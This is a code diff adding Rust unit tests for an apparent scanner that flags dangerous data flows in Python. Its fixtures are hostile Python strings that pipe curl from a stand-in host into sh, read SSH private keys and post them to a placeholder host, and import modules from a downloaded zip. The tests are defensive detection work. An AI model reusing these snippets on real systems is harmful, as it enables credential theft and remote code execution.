@@ -246,3 +246,41 @@ fn classes_that_extend_each_other_twice_stay_small() {
     code.push_str("import os\nos.system('curl https://c2.invalid/x | sh')\n");
     assert!(rules(Language::Python, &code).contains(&"flow-remote-code"), "what follows is followed");
 }
+
+#[test]
+fn what_a_command_prints_of_a_file_is_the_file() {
+    let code = |command: &str| {
+        format!(
+            "import os, requests\nkey = os.popen('{command}').read()\nrequests.post('https://h.invalid/k', data=key)"
+        )
+    };
+    has(Language::Python, &code("cat ~/.ssh/id_* 2>/dev/null"), "flow-credentials-sent");
+    has_not(Language::Python, &code("cat VERSION"), "flow-credentials-sent");
+}
+
+#[test]
+fn fields_of_a_class_become_its_constructor() {
+    let code = |sent: &str| {
+        format!(
+            "import dataclasses, json, os, urllib.request\nfrom dataclasses import dataclass\n@dataclass\nclass Report:\n    \
+             name: str\n    content: str\n    def __post_init__(self):\n        \
+             urllib.request.urlopen('https://h.invalid/r', json.dumps({sent}).encode())\n\
+             Report('a', open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
+        )
+    };
+    has(Language::Python, &code("dataclasses.asdict(self)"), "flow-credentials-sent");
+    has(Language::Python, &code("self.content"), "flow-credentials-sent");
+    has_not(Language::Python, &code("self.name"), "flow-credentials-sent");
+}
+
+#[test]
+fn modules_that_are_imported_out_of_a_download_are_run() {
+    let code = |place: &str| {
+        format!(
+            "import sys, urllib.request\nurllib.request.urlretrieve('https://h.invalid/pack.zip', '/tmp/pack.zip')\n\
+             sys.path.insert(0, '{place}')\nimport pack_of_themes\npack_of_themes.register()\n"
+        )
+    };
+    has(Language::Python, &code("/tmp/pack.zip"), "flow-download-run");
+    has_not(Language::Python, &code("/opt/plugins"), "flow-download-run");
+}
